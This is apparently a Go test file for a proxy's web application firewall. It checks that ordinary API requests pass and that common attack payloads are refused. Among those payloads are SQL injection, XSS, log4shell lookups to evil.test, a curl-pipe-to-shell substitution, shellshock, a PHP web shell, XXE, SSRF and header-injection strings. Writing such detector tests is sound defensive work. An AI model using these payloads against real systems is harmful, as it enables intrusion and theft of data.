package waf

import (
	"bytes"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"net/url"
	"strings"
	"sync"
	"testing"

	"github.com/sirupsen/logrus"

	"github.com/sidegate-proxy/sidegate/proxy/exchange"
	"github.com/sidegate-proxy/sidegate/proxy/policy"
	"github.com/sidegate-proxy/sidegate/proxy/policy/policytest"
)

// audited gathers lines of the audit log.
type audited struct {
	mu sync.Mutex
	b  []byte
}

func (a *audited) add(_ uint32, line func([]byte) []byte) {
	a.mu.Lock()
	defer a.mu.Unlock()
	a.b = line(a.b)
}

func newStore() (*Store, *audited) {
	log := logrus.New()
	log.SetOutput(io.Discard)
	a := &audited{}
	return NewStore(Deps{Log: log, Audit: a.add}), a
}

// shared is one store for the tests that don't look at what it counts, so that
// the rules are made once.
var shared = sync.OnceValue(func() *Store { s, _ := newStore(); return s })

func newPolicy(t testing.TB, s *Store, block string) *Policy {
	t.Helper()
	return policytest.Policy(t, Kind(s), block).(*Policy)
}

// request is "METHOD TARGET", fields, and a body behind an empty one.
func request(t testing.TB, line string, more ...string) *exchange.Exchange {
	t.Helper()
	method, target, _ := strings.Cut(line, " ")
	fields := []string{"Host: api.example.com", "User-Agent: curl/8.5.0", "Accept: */*"}
	body, has := "", false
	for _, m := range more {
		if has {
			body += m
		} else if m == "" {
			has = true
		} else {
			fields = append(fields, m)
		}
	}
	if has {
		fields = append(fields, fmt.Sprint("Content-Length: ", len(body)))
	}
	x := policytest.Exchange(t, method+" https://api.example.com"+target, fields...)
	if has {
		x.RequestBody, x.RequestLength = exchange.Bytes([]byte(body)), int64(len(body))
	}
	return x
}

const (
	asForm = "Content-Type: application/x-www-form-urlencoded"
	asJSON = "Content-Type: application/json"
	asXML  = "Content-Type: application/xml"
	asText = "Content-Type: text/plain"
	asPart = "Content-Type: multipart/form-data; boundary=XyZ"
)

func part(head, body string) string {
	return "--XyZ\r\nContent-Disposition: form-data; " + head + "\r\n\r\n" + body + "\r\n--XyZ--\r\n"
}

// verdict is the kind of the refusal; "": it passed.
func verdict(t testing.TB, p *Policy, x *exchange.Exchange) string {
	t.Helper()
	v, err := p.Request(x)
	if err == nil && v == policy.Next {
		return ""
	}
	f, ok := err.(*exchange.Fault) //nolint:errorlint // policies return it as it is
	if !ok {
		t.Fatalf("%v, %v", v, err)
	}
	return string(f.Kind)
}

// TestInnocent: at paranoia 1 what clients of an API send passes.
func TestInnocent(t *testing.T) {
	p := newPolicy(t, shared(), `waf {}`)
	upload := base64.StdEncoding.EncodeToString(bytes.Repeat([]byte("\x89PNG\r\n\x1a\n\x00\x01\xfe\xff<?"), 3000))
	for _, tt := range []struct {
		name string
		line string
		more []string
	}{
		{"root", "GET /", nil},
		{"query", "GET /orders?status=open&sort=-created_at&page%5Bsize%5D=50&fields=id,total&q=blue+shoes", nil},
		{"filter", "GET /orders?filter=price+gt+10+and+name+eq+'O''Neill'", nil},
		{"odata", "GET /v1/products?$filter=Price%20lt%2010&$top=5", nil},
		{"time range", "GET /metrics?from=2026-11-24T20:00:00Z&to=2026-11-24T21:00:00%2B01:00", nil},
		{"redirect", "GET /login?next=%2Faccount%2Fsettings%3Ftab%3Dkeys&state=eyJhIjoxfQ", nil},
		{"address in the path", "GET /users/alice@example.com", nil},
		{"domain in the path", "GET /v1/domains/shop.example.com", nil},
		{"uuid", "DELETE /orders/550e8400-e29b-41d4-a716-446655440000", nil},
		{"unicode", "GET /search?q=%E6%97%A5%E6%9C%AC%E8%AA%9E+Stra%C3%9Fe+%F0%9F%98%80", nil},
		{"name with a quote", "GET /search?q=O'Brien+%26+Sons", nil},
		{"patch", "PATCH /orders/1", []string{"Content-Type: application/merge-patch+json", "", `{"status":"paid"}`}},
		{"put", "PUT /orders/1", []string{asJSON, "", `{"status":"paid","note":null}`}},
		{"jwt and cookies", "GET /me", []string{
			"Authorization: Bearer eyJhbGciOiJSUzI1NiIsImtpZCI6ImsxIiwidHlwIjoiSldUIn0.eyJpc3MiOiJodHRwczovL2lkLnRlc3QvIiwic3ViIjoidSJ9.c2lnbmF0dXJl-_c2lnbmF0dXJl",
			"Cookie: _ga=GA1.2.123456789.1700000000; session=3f2a9c1b7d; theme=dark; consent=%7B%22a%22%3Atrue%7D",
			"Referer: https://app.example.com/orders?tab=open", "Origin: https://app.example.com", "Accept-Language: de-DE,de;q=0.9,en;q=0.8",
			"If-None-Match: W/\"33a64df5\"", "Traceparent: 00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01",
		}},
		{"quotes in JSON", "POST /notes", []string{asJSON, "", `{"title":"He said \"it's done\"","body":"Don't; we can't -- not today.","tags":["a","b's"]}`}},
		{"SQL words in prose", "POST /notes", []string{asJSON, "", `{"text":"Please select a union representative from the list, update the table where needed, and drop by the office or insert a coin."}`}},
		{"code review", "POST /notes", []string{asJSON, "", `{"comment":"I would rename the function get to fetch and delete the old one."}`}},
		{"GraphQL", "POST /graphql", []string{asJSON, "", `{"operationName":"Orders","variables":{"first":10,"after":null},"query":"query Orders($first: Int!, $after: String) {\n  orders(first: $first, after: $after) {\n    edges { node { id total customer { name } } }\n    pageInfo { hasNextPage endCursor }\n  }\n}"}`}},
		{"GraphQL text", "POST /graphql", []string{"Content-Type: application/graphql", "", `query { order(id: "7") { id lines { sku count } } }`}},
		{"base64 upload", "POST /files", []string{asJSON, "", `{"name":"a.png","data":"` + upload + `"}`}},
		{"nested numbers", "POST /points", []string{asJSON, "", `{"points":[[1.5,2.25],[3e10,-4]],"ok":true,"id":9007199254740993}`}},
		{"unicode JSON", "POST /notes", []string{asJSON, "", `{"name":"Ægir Þórsson","emoji":"\ud83d\ude00 😀","rtl":"مرحبا"}`}},
		{"markdown", "POST /notes", []string{asJSON, "", `{"md":"# Title\n\n- item *one*\n- [link](https://example.com/a?b=c)\n\n1 < 2 && 3 > 2"}`}},
		{"empty JSON", "POST /notes", []string{asJSON, "", `{}`}},
		{"form", "POST /login", []string{asForm, "", "user=alice%40example.com&password=c0rrect-h0rse!battery%24staple&remember=1"}},
		{"form with an address", "POST /order", []string{asForm, "", "street=1+Rue+de+l%27%C3%89glise&city=Saint-%C3%89tienne&note=leave+at+the+door%2C+please%21"}},
		{"multipart with both names of a file", "POST /upload", []string{asPart, "", part(`name="file"; filename="photo.jpg"; filename*=utf-8''ph%c3%b6to.jpg`, "x")}},
		{"multipart with its end in a file", "POST /upload", []string{asPart, "", part(`name="f"; filename="a.txt"`, "a --XyZ-- b")}},
		{"multipart with line ends around it", "POST /upload", []string{asPart, "", "\r\n" + part(`name="a"`, "b") + "\r\n"}},
		{"multipart", "POST /upload", []string{asPart, "", part(`name="file"; filename="photo.jpg"`+"\r\nContent-Type: image/jpeg", "\xff\xd8\xff\xe0binary\x00\x01<script>")}},
		{"XML", "POST /soap", []string{asXML, "", `<?xml version="1.0" encoding="UTF-8"?><order id="7"><item sku="A-1">Blue shoes &amp; socks</item></order>`}},
		{"text", "POST /log", []string{asText, "", "all is well; nothing to see\n"}},
		{"NDJSON", "POST /bulk", []string{"Content-Type: application/x-ndjson", "", "{\"a\":1}\n{\"a\":2}\n"}},
		{"preflight", "OPTIONS /orders", []string{"Origin: https://app.example.com", "Access-Control-Request-Method: PUT", "Access-Control-Request-Headers: content-type,x-api-key"}},
		{"webhook", "POST /hooks/github", []string{asJSON, "X-Hub-Signature-256: sha256=abcdef0123456789", "User-Agent: GitHub-Hookshot/044aadd", "", `{"ref":"refs/heads/main","commits":[{"id":"d6fde92930d4715a2b49857d24b940956b26d2d3","message":"fix: select the right branch\n\nCloses #12","url":"https://github.com/o/r/commit/d6fde92"}]}`}},
		{"a nested form", "POST /v1/charges", []string{asForm, "", "amount=2000&currency=usd&source=tok_visa&description=My+First+Test+Charge+%28created+for+API+docs%29&metadata%5Border_id%5D=6735&expand%5B%5D=customer"}},
		{"token request", "POST /token", []string{asForm, "Authorization: Basic Y2xpZW50OnNlY3JldA==", "", "grant_type=authorization_code&code=SplxlOBeZQQYbYS6WxSbIA&redirect_uri=https%3A%2F%2Fclient.example.com%2Fcb&code_verifier=dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk"}},
		{"SAML", "POST /acs", []string{asForm, "", "SAMLResponse=PHNhbWxwOlJlc3BvbnNlIHhtbG5zOnNhbWxwPSJ1cm46b2FzaXM6bmFtZXM6dGM6U0FNTDoyLjA6cHJvdG9jb2wiPg%3D%3D&RelayState=https%3A%2F%2Fapp.example.com%2Fx"}},
		{"callback", "POST /subs", []string{asJSON, "", `{"callback":"https://hooks.example.com/a?b=c&d=e","events":["order.created","order.paid"]}`}},
		{"HTML in JSON", "POST /posts", []string{asJSON, "", `{"html":"<p>Hello <b>world</b>, see <a href=\"https://example.com/\">this</a></p>"}`}},
		{"JSON-RPC", "POST /rpc", []string{asJSON, "", `{"jsonrpc":"2.0","method":"subtract","params":{"minuend":42,"subtrahend":23},"id":3}`}},
		{"SOAP", "POST /soap", []string{"Content-Type: application/soap+xml; charset=utf-8", "SOAPAction: \"http://www.example.org/abc/GetPrice\"", "", `<?xml version="1.0"?><soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope/" soap:encodingStyle="http://www.w3.org/2003/05/soap-encoding"><soap:Body><m:GetPrice xmlns:m="https://www.w3schools.com/prices"><m:Item>Apples</m:Item></m:GetPrice></soap:Body></soap:Envelope>`}},
		{"manifest", "POST /apply", []string{asJSON, "", `{"apiVersion":"apps/v1","kind":"Deployment","metadata":{"name":"web","labels":{"app.kubernetes.io/name":"web"}},"spec":{"replicas":3,"template":{"spec":{"containers":[{"name":"web","image":"nginx:1.25","command":["nginx","-g","daemon off;"],"env":[{"name":"PATH","value":"/usr/bin:/bin"}]}]}}}}`}},
		{"query in JSON", "POST /_search", []string{asJSON, "", `{"query":{"bool":{"must":[{"match":{"title":"blue shoes"}}],"filter":[{"range":{"price":{"gte":10,"lte":20}}}]}},"size":10}`}},
		{"bulk", "POST /_bulk", []string{"Content-Type: application/x-ndjson", "", "{\"index\":{\"_index\":\"a\",\"_id\":\"1\"}}\n{\"field1\":\"value1\"}\n"}},
		{"chat", "POST /hook", []string{asJSON, "", `{"text":"Deploy of *web* by <@U123> succeeded: <https://ci.example.com/1|build 1>","blocks":[{"type":"section","text":{"type":"mrkdwn","text":"ok :tada:"}}]}`}},
		{"error report", "POST /api/1/store/", []string{asJSON, "X-Sentry-Auth: Sentry sentry_version=7, sentry_client=raven-python/6, sentry_key=abc", "", `{"message":"TypeError: undefined is not a function","exception":[{"type":"TypeError","stacktrace":{"frames":[{"filename":"app/main.js","function":"onClick","lineno":10}]}}]}`}},
		{"CSV", "POST /import", []string{"Content-Type: text/csv", "", "id,name,email\n1,\"Smith, J.\",j@example.com\n2,O'Brien,o@example.com\n"}},
		{"CV", "POST /cv", []string{asJSON, "", `{"cv":"2019-2022: Senior engineer (Go, SQL, C++). Designed & built APIs; cut costs by 50% -- and more. Skills: select/insert queries, bash, Java, PHP; see https://github.com/me"}`}},
		{"JSON:API", "GET /items?sort=name,-price&filter[status]=open&filter[price][gte]=10&include=author", nil},
		{"prose in the query", "GET /search?q=how+to+select+from+a+list+in+python", nil},
		{"file in the path", "GET /files/reports/2024/Q1%20report%20(final).pdf", nil},
		{"token in the query", "GET /ws?token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c", nil},
		{"URL in the query", "GET /proxy?url=https%3A%2F%2Fexample.com%2Fa%3Fb%3Dc", nil},
		{"coordinates", "GET /near?lat=48.8566&lon=-2.3522&radius=5km", nil},
		{"cookies of trackers", "GET /", []string{"Cookie: OptanonConsent=isGABC=1&datestamp=Tue+Nov+24+2026+22%3A00%3A00+GMT%2B0100&version=202401.1.0&groups=C0001%3A1%2CC0002%3A0&geolocation=DE%3BBE; AWSALB=abc/def+ghi=; _fbp=fb.1.1700000000.1234; cart={\"items\":[1,2]}"}},
		{"GraphQL mutation", "POST /graphql", []string{asJSON, "", `{"query":"mutation CreateReview($ep: Episode!, $review: ReviewInput!) { createReview(episode: $ep, review: $review) { stars commentary } }","variables":{"ep":"JEDI","review":{"stars":5,"commentary":"This is a great movie!"}}}`}},
		{"GraphQL introspection", "POST /graphql", []string{asJSON, "", `{"query":"\n    query IntrospectionQuery {\n      __schema {\n        queryType { name }\n        types {\n          ...FullType\n        }\n      }\n    }\n    fragment FullType on __Type { kind name description fields(includeDeprecated: true) { name args { ...InputValue } } }\n    fragment InputValue on __InputValue { name type { kind name } defaultValue }"}`}},
		{"SCIM filter", "GET /Users?filter=userName%20eq%20%22bjensen%22%20and%20active%20eq%20true&startIndex=1", nil},
		{"OData filter", "GET /Products?$filter=contains(Name,'milk')%20and%20Price%20gt%202.55&$orderby=Name%20desc&$select=Name,Price", nil},
		{"JSON patch", "PATCH /o/1", []string{"Content-Type: application/json-patch+json", "", `[{"op":"replace","path":"/status","value":"paid"},{"op":"remove","path":"/a/b"}]`}},
		{"beacon", "POST /beacon", []string{asText, "", `{"t":"nav","url":"https://app.example.com/x?a=b","ua":"Mozilla/5.0 (X11; Linux x86_64)","timing":{"ttfb":120}}`}},
		{"address", "POST /a", []string{asJSON, "", `{"street":"12 Rue d'Alésia, Apt #4","city":"Paris","note":"Code: 12*34#; ask for Ann & Bob (2nd floor)"}`}},
		{"cron", "POST /jobs", []string{asJSON, "", `{"schedule":"*/5 * * * *","cmd":"backup"}`}},
		{"template", "POST /mail", []string{asJSON, "", `{"subject":"Hello {{name}}","body":"Dear {{user.first}}, your order {{order.id}} has shipped."}`}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			x := request(t, tt.line, tt.more...)
			if _, err := p.Request(x); err != nil || x.Attack != "" {
				t.Errorf("refused: %v", err)
			}
		})
	}
}

// TestAttacks: what the common tools try is refused wherever it stands.
func TestAttacks(t *testing.T) {
	p := newPolicy(t, shared(), `waf {}`)
	payloads := []struct{ name, text string }{
		{"SQL injection", `1' OR '1'='1' -- `},
		{"SQL union", `-1 UNION SELECT username,password FROM users--`},
		{"SQL blind", `1 AND SLEEP(5)`},
		{"SQL stacked", `1; DROP TABLE users`},
		{"XSS", `<script>alert(1)</script>`},
		{"XSS by an attribute", `"><img src=x onerror=alert(document.cookie)>`},
		{"XSS by a URL", `<a href="javascript:alert(1)">x</a>`},
		{"path traversal", `../../../../etc/passwd`},
		{"file", `/etc/passwd`},
		{"command", `; cat /etc/passwd`},
		{"command substitution", "$(curl http://evil.test/x|sh)"},
		{"shellshock", `() { :; }; /bin/bash -c "id"`},
		{"PHP", `<?php system($_GET['c']); ?>`},
		{"PHP wrapper", `php://filter/convert.base64-encode/resource=index.php`},
		{"log4shell", `${jndi:ldap://evil.test/a}`},
		{"log4shell hidden", `${${lower:j}ndi:${lower:l}dap://evil.test/a}`},
		{"Java", `java.lang.Runtime`},
		{"NoSQL", `{"$where":"sleep(1000)"}`},
		{"Node", `process.mainModule.require('child_process').exec('id')`},
		{"SSRF", `http://169.254.169.254/latest/meta-data/`},
		{"prototype", `__proto__[admin]=1`},
	}
	twice := func(s string) string { return strings.ReplaceAll(url.QueryEscape(s), "%", "%25") }
	quoted := func(s string) string { b, _ := json.Marshal(s); return string(b) }
	escaped := strings.NewReplacer("<", "&lt;", "&", "&amp;").Replace
	everywhere := []struct {
		name string
		make func(s string) (string, []string)
	}{
		{"query", func(s string) (string, []string) { return "GET /search?q=" + url.QueryEscape(s), nil }},
		{"query name", func(s string) (string, []string) { return "GET /search?" + url.QueryEscape(s) + "=1", nil }},
		{"form", func(s string) (string, []string) {
			return "POST /a", []string{asForm, "", "a=1&b=" + url.QueryEscape(s)}
		}},
		{"JSON", func(s string) (string, []string) {
			return "POST /a", []string{asJSON, "", `{"a":[1,{"b":` + quoted(s) + `}]}`}
		}},
		{"JSON type of its own", func(s string) (string, []string) {
			return "POST /a", []string{"Content-Type: Application/VND.api+JSON;charset=utf-8", "", `{"a":` + quoted(s) + `}`}
		}},
		{"multipart", func(s string) (string, []string) { return "POST /a", []string{asPart, "", part(`name="a"`, s)} }},
		{"XML", func(s string) (string, []string) {
			return "POST /a", []string{asXML, "", "<a><b>" + escaped(s) + "</b></a>"}
		}},
		{"text", func(s string) (string, []string) { return "POST /a", []string{asText, "", s} }},
		{"no type", func(s string) (string, []string) { return "POST /a", []string{"", s} }},
		{"cookie", func(s string) (string, []string) { return "GET /", []string{"Cookie: a=1; b=" + url.QueryEscape(s)} }},
	}
	// What isn't an attack there, or not to the rules of paranoia 1.
	except := map[string]bool{
		"cookie/command substitution": true, "cookie/shellshock": true, "cookie/PHP wrapper": true, "cookie/SSRF": true,
	}
	for _, a := range payloads {
		for _, w := range everywhere {
			name := w.name + "/" + a.name
			t.Run(name, func(t *testing.T) {
				line, more := w.make(a.text)
				x := request(t, line, more...)
				if got := verdict(t, p, x); got != "forbidden" && !except[name] {
					t.Errorf("%q: %q, want forbidden", a.text, got)
				}
			})
		}
		t.Run("query twice escaped/"+a.name, func(t *testing.T) {
			if got := verdict(t, p, request(t, "GET /search?q="+twice(a.text))); got != "forbidden" {
				t.Skipf("%q passes", a.text)
			}
		})
	}
	for _, tt := range []struct {
		name, line string
		more       []string
	}{
		{"path", "GET /%3Cscript%3Ealert(1)%3C%2Dscript%3E/<script>alert(1)</script>", nil},
		{"traversal in the path", "GET /a/b/c/d/../../../../etc/passwd", nil},
		{"a file that nobody should ask for", "GET /.git/config", nil},
		{"another", "GET /backup/.env", nil},
		{"user agent", "GET /", []string{"User-Agent: sqlmap/1.7"}},
		{"log4shell in a field", "GET /", []string{"X-Api-Version: ${jndi:ldap://evil.test/a}"}},
		{"shellshock in a field", "GET /", []string{"User-Agent: () { :; }; /bin/bash -c id"}},
		{"XSS in the Referer", "GET /", []string{"Referer: https://x.test/?<script>alert(1)</script>"}},
		{"a body with GET", "GET /", []string{asForm, "", "a=1"}},
		{"two types", "POST /", []string{asForm, asJSON, "", `{"a":1}`}},
		{"a charset that hides", "POST /", []string{"Content-Type: application/json; charset=utf-7", "", `{}`}},
		{"method override", "POST /", []string{"X-HTTP-Method-Override: DELETE", asJSON, "", `{}`}},
		{"HTTP in HTTP", "GET /?a=b%0d%0aGET%20/x%20HTTP/1.1%0d%0aHost:%20x", nil},
		{"a field split", "GET /?a=b%0d%0aSet-Cookie:%20a=b", nil},
		{"not JSON", "POST /", []string{asJSON, "", `{"a":`}},
		{"deep JSON", "POST /", []string{asJSON, "", strings.Repeat("[", 100) + strings.Repeat("]", 100)}},
		{"JSON behind JSON", "POST /", []string{asJSON, "", `{"a":1}{"b":"<script>alert(1)</script>"}`}},
		{"not multipart", "POST /", []string{asPart, "", "--XyZ\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nb"}},
		{"multipart with a file that some take for a field", "POST /", []string{asPart, "", part(`name="q"; filename*=utf-8''a.txt`, "x")}},
		{"the same, hidden", "POST /", []string{asPart, "", part(`name="filename="; fileNAME*=utf-8''a.txt`, "x")}},
		{"multipart behind its end", "POST /", []string{asPart, "", part(`name="a"`, "b") + part(`name="q"`, "<script>alert(1)</script>")}},
		{"multipart behind none", "POST /", []string{asPart, "", "--XyZ--\r\n" + part(`name="q"`, "<script>alert(1)</script>")}},
		{"multipart before its beginning", "POST /", []string{asPart, "", "q=1\r\n" + part(`name="a"`, "b")}},
		{"multipart filename", "POST /", []string{asPart, "", part(`name="f"; filename="shell.php"`, "x")}},
		{"multipart name", "POST /", []string{asPart, "", part(`name="a<script>alert(1)</script>"`, "x")}},
		{"XML entity", "POST /", []string{asXML, "", `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`}},
		{"XML attribute", "POST /", []string{asXML, "", `<a b="1' OR '1'='1' -- "/>`}},
		{"JSON that calls itself a form", "POST /", []string{asForm, "", `{"page":1,"filter":{"id":"1 or 1=1"}}`}},
		{"JSON of no type", "PATCH /", []string{"", `{"op":"replace"}`}},
		{"JSON name", "POST /", []string{asJSON, "", `{"<script>alert(1)</script>":1}`}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			if got := verdict(t, p, request(t, tt.line, tt.more...)); got != "forbidden" {
				t.Errorf("%q, want forbidden", got)
			}
		})
	}
}
